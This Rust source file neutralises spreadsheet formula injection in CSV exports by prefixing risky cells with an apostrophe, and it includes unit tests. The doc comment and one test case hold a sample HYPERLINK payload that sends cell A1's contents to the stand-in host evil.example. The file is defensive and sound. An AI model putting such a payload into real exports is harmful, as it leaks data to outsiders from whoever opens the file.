//! CSV cells that a spreadsheet will not run as a formula.
//!
//! Excel, LibreOffice and Google Sheets treat a cell starting with `=`, `+`, `-` or `@` as a
//! formula (and tab/CR as a way to smuggle one past a first-character check), so a lead named
//! `=HYPERLINK("http://evil.example/?x="&A1,"Click")` would run in whoever opens the export. The
//! OWASP remedy: prefix such a cell with `'`, which spreadsheets show as text. Phone numbers
//! (`+91…`) are included: a number starting with `+` is a formula to a spreadsheet too.

/// The cell as a spreadsheet will show it, never as a formula.
pub fn neutralised(cell: String) -> String {
    match cell.chars().next() {
        Some('=' | '+' | '-' | '@' | '\t' | '\r') => format!("'{cell}"),
        _ => cell,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formula_starts_are_quoted_and_the_rest_kept() {
        let cases = [
            (
                r#"=HYPERLINK("http://evil.example/?x="&A1,"Click")"#,
                r#"'=HYPERLINK("http://evil.example/?x="&A1,"Click")"#,
            ),
            ("+919876543210", "'+919876543210"),
            ("-2+3", "'-2+3"),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("\t=1", "'\t=1"),
            ("\r=1", "'\r=1"),
            ("Anita", "Anita"),
            ("", ""),
            ("42", "42"),
            ("a=1", "a=1"),
        ];
        for (raw, want) in cases {
            assert_eq!(neutralised(raw.to_string()), want, "{raw:?}");
        }
    }
}
